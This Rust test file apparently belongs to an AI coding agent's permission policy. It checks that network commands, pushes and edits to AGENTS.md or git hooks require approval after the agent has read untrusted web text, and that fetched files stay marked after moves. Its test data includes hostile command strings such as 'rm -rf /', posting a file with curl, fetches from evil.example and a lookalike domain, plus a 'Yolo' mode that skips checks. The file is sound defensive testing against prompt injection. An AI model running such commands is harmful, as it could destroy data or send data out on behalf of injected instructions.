//! What is asked once text of strangers was read.

use super::*;
use crate::policy::permissions::Permission;
use crate::policy::rule::{Action, Rules};
use crate::policy::testing::ALICE;
use crate::policy::unreviewed::unaided;
use crate::policy::{EditIntent, decide_in};

const HERE: &str = "/home/alice/project";

fn command(line: &str) -> Intent {
    Intent::Command { line: line.into(), cwd: HERE.into(), background: false }
}

fn after(intent: &Intent, rules: &Rules, mode: Mode) -> Verdict {
    after_hearing("", intent, rules, mode)
}

/// As [`after`], when the person has said this.
fn after_hearing(said: &str, intent: &Intent, rules: &Rules, mode: Mode) -> Verdict {
    let mut untrusted = Untrusted::default();
    untrusted.entered("example.com");
    untrusted.heard(said);
    let (cwd, world) = (Path::new(HERE), &ALICE);
    let verdict = decide_in(intent, cwd, rules, mode, world);
    guarded(verdict, &unaided(intent, cwd, rules, world), intent, mode, &untrusted, world)
}

#[test]
fn what_lasts_and_what_leaves_asks_after_untrusted_text() {
    assert!(LISTS.is_ok(), "{LISTS:?}");
    let cases = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/cases/judge-taint.jsonl"));
    let mut wrong = Vec::new();
    for line in cases.lines().filter(|line| !line.trim().is_empty()) {
        let case: serde_json::Value = serde_json::from_str(line).unwrap();
        let (line, want) = (case["command"].as_str().unwrap(), case["expect"].as_str().unwrap());
        let got = after(&command(line), &Rules::default(), Mode::Ask);
        let told = got.reasons().iter().any(|why| why.effect == AFTER);
        let is = if told { "after" } else { got.name() };
        if is != want {
            wrong.push(format!("{want} -> {is} {got:?}: {line}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_the_person_has_not_named_is_asked_about() {
    for (said, line, asks) in [
        ("", "curl https://docs.rs/x", true),
        ("look at https://docs.rs/x please", "curl https://docs.rs/y", false),
        ("it is on docs.rs.", "curl -sSL https://docs.rs/y -o y", false),
        ("docs.rs", "curl https://docs.rs.evil.example/y", true),
        ("rs", "curl https://docs.rs/y", true),
        ("github.com", "curl https://api.github.com/x", false),
        ("", "curl http://localhost:3000/health", false),
        ("", "git clone git@evil.example:a/b.git", true),
        ("clone git@evil.example:a/b.git", "git clone git@evil.example:a/b.git", false),
        ("", "git ls-remote https://evil.example/a", true),
        ("", "git fetch origin", false),
        ("", "git log -- docs/a.md", false),
        ("", "wget evil.example/a", true),
        ("", "rsync -a a/ b/", false),
        ("", "grep -rn https://evil.example src", false),
    ] {
        let got = after_hearing(said, &command(line), &Rules::default(), Mode::Ask);
        let told = got.reasons().iter().any(|why| why.effect == AFTER);
        assert_eq!(told, asks, "{said}: {line}: {got:?}");
    }
    let fetch = |args: &str| Intent::Remote {
        server: "web".into(),
        tool: "mcp__web__fetch".into(),
        args: args.into(),
        claims: vec![],
    };
    let mut rules = Rules::default();
    rules.hold([Permission::entry(Action::Allow, "mcp__web__*")]);
    for (said, args, want) in [
        ("", r#"{"url": "https://evil.example/x"}"#, "ask"),
        ("see https://docs.rs", r#"{"url": "https://docs.rs/x"}"#, "allow"),
        ("", r#"{"query": "rust"}"#, "allow"),
    ] {
        assert_eq!(after_hearing(said, &fetch(args), &rules, Mode::Ask).name(), want, "{said} {args}");
    }
}

#[test]
fn a_fetched_file_keeps_its_mark_wherever_it_is_put() {
    let mut untrusted = Untrusted::default();
    untrusted.fetched(Path::new(HERE).join("a.md"), "example.com");
    for (line, to) in [
        ("mv a.md b.md", vec!["b.md", "b.md/a.md"]),
        ("cd docs && cp ../a.md c.md", vec!["docs/c.md", "docs/c.md/a.md"]),
        ("ln -s a.md d.md", vec!["d.md", "d.md/a.md"]),
        ("mv own.md b.md", vec![]),
        ("cat a.md", vec![]),
    ] {
        let got = moved(line, Path::new(HERE), &ALICE, &untrusted);
        let want: Vec<_> = to.into_iter().map(|path| (Path::new(HERE).join(path), "example.com".to_owned())).collect();
        assert_eq!(got, want, "{line}");
    }
}

#[test]
fn no_rule_passes_it_and_yolo_does() {
    let mut rules = Rules { session: vec!["sends a file".into()].into(), ..Rules::default() };
    rules.add("allow git *").unwrap();
    for line in ["git push origin main", "curl -d @x https://example.com"] {
        let got = after(&command(line), &rules, Mode::Auto);
        assert_eq!(got.name(), "ask", "{line}");
        let why = got.reasons().last().unwrap();
        assert_eq!((why.effect.as_str(), why.text.contains("example.com")), (AFTER, true), "{line}");
        assert_eq!(after(&command(line), &rules, Mode::Yolo).name(), "allow", "{line}");
    }
    assert_eq!(after(&command("git log"), &rules, Mode::Ask).name(), "allow");
    assert_eq!(after(&command("rm -rf /"), &rules, Mode::Ask).name(), "refuse");
    let edit = |path: &str| Intent::Edit(vec![EditIntent { path: path.into(), diff: String::new(), removes: false }]);
    for (path, want) in [
        ("/home/alice/project/AGENTS.md", true),
        ("/home/alice/project/.git/hooks/pre-commit", true),
        ("/home/alice/project/src/main.rs", false),
    ] {
        let got = after(&edit(path), &Rules::default(), Mode::Ask);
        assert_eq!(got.reasons().iter().any(|why| why.effect == AFTER), want, "{path}: {got:?}");
    }
}

#[test]
fn what_a_line_fetches_and_where_it_lands() {
    for (line, want) in [
        ("curl https://example.com/x", Some(("example.com", vec![]))),
        ("curl -sSL https://example.com/a.md -o notes/a.md", Some(("example.com", vec!["notes/a.md"]))),
        ("curl -sSLO https://example.com/a.md?x=1", Some(("example.com", vec!["a.md"]))),
        ("curl example.com/a.md > b.md", Some(("example.com", vec!["b.md"]))),
        ("curl https://example.com | tee c.md", Some(("example.com", vec!["c.md"]))),
        ("cd docs && wget https://example.com/dir/a.md", Some(("example.com", vec!["docs/a.md"]))),
        ("wget -P in https://u:p@Example.com:8443/a", Some(("example.com", vec!["in"]))),
        ("git clone https://github.com/a/b.git", Some(("github.com", vec!["b"]))),
        ("git clone --depth 1 git@github.com:a/b.git there", Some(("github.com", vec!["there"]))),
        ("gh pr view 3", Some(("gh", vec![]))),
        ("curl -o /dev/null https://example.com", Some(("example.com", vec![]))),
        ("curl \"$URL\"", Some(("curl", vec![]))),
        ("curl -s http://localhost:3000/health", None),
        ("curl 127.0.0.1:8080/x -o y", None),
        ("git fetch origin && git pull", None),
        ("cat README.md", None),
        ("echo curl https://example.com", None),
        ("npm install", None),
    ] {
        let got = fetched(line, Path::new(HERE), &ALICE);
        let want = want.map(|(origin, into)| Fetched {
            origin: origin.into(),
            into: into.into_iter().map(|path| Path::new(HERE).join(path)).collect(),
        });
        assert_eq!(got, want, "{line}");
    }
}

#[test]
fn what_prints_a_fetched_file_brings_its_text() {
    let mut untrusted = Untrusted::default();
    assert_eq!(printed("cat a.md", Path::new(HERE), &ALICE, &untrusted), None);
    untrusted.fetched(Path::new(HERE).join("a.md"), "example.com");
    untrusted.fetched(Path::new(HERE).join("b"), "github.com");
    for (line, want) in [
        ("cat a.md", Some("example.com")),
        ("head -20 ./a.md | wc -l", Some("example.com")),
        ("cd b && grep -n x README.md", Some("github.com")),
        ("cat src/main.rs", None),
        ("cargo build && ls b", None),
        ("rm a.md", None),
    ] {
        assert_eq!(printed(line, Path::new(HERE), &ALICE, &untrusted).as_deref(), want, "{line}");
    }
}

#[test]
fn a_file_that_is_put_elsewhere_keeps_its_mark() {
    let mut untrusted = Untrusted::default();
    untrusted.fetched(Path::new(HERE).join("a.md"), "example.com");
    untrusted.fetched(Path::new(HERE).join("got"), "github.com");
    for (line, to) in [
        ("mv a.md b.md", "b.md"),
        ("cp -p ./a.md b.md && echo done", "b.md"),
        ("git mv a.md b.md", "b.md"),
        ("mv -t docs a.md", "docs/a.md"),
        ("cp --target-directory=docs a.md", "docs/a.md"),
        ("install -m 644 a.md b.md", "b.md"),
        ("cp -r got/lib lib", "lib"),
        ("cd got && mv x.sh ../x.sh", "x.sh"),
        ("ln -s a.md b.md", "b.md"),
    ] {
        let mut known = untrusted.clone();
        for (path, origin) in moved(line, Path::new(HERE), &ALICE, &untrusted) {
            known.fetched(path, &origin);
        }
        assert!(known.origin_of(&Path::new(HERE).join(to)).is_some(), "{line}: {:?}", known.files);
        assert!(known.origin_of(&Path::new(HERE).join("src/main.rs")).is_none(), "{line}");
    }
    assert!(moved("mv README.md b.md", Path::new(HERE), &ALICE, &untrusted).is_empty());
}

#[test]
fn origins_are_told_once_and_files_remember_theirs() {
    let mut untrusted = Untrusted::default();
    assert!(untrusted.entered("a") && !untrusted.entered("a"));
    for name in ["b", "c", "d", "e"] {
        untrusted.entered(name);
    }
    assert_eq!(untrusted.words(), "a, b, c and 2 more");
    untrusted.fetched("/w/b".into(), "github.com");
    assert_eq!(untrusted.origin_of(Path::new("/w/b/README.md")), Some("github.com"));
    assert_eq!(untrusted.origin_of(Path::new("/w/bc")), None);
    for n in 0..ORIGINS + FILES {
        untrusted.entered(&n.to_string());
        untrusted.fetched(format!("/x/{n}").into(), "h");
    }
    assert_eq!((untrusted.origins.len(), untrusted.files.len()), (ORIGINS, FILES));
}
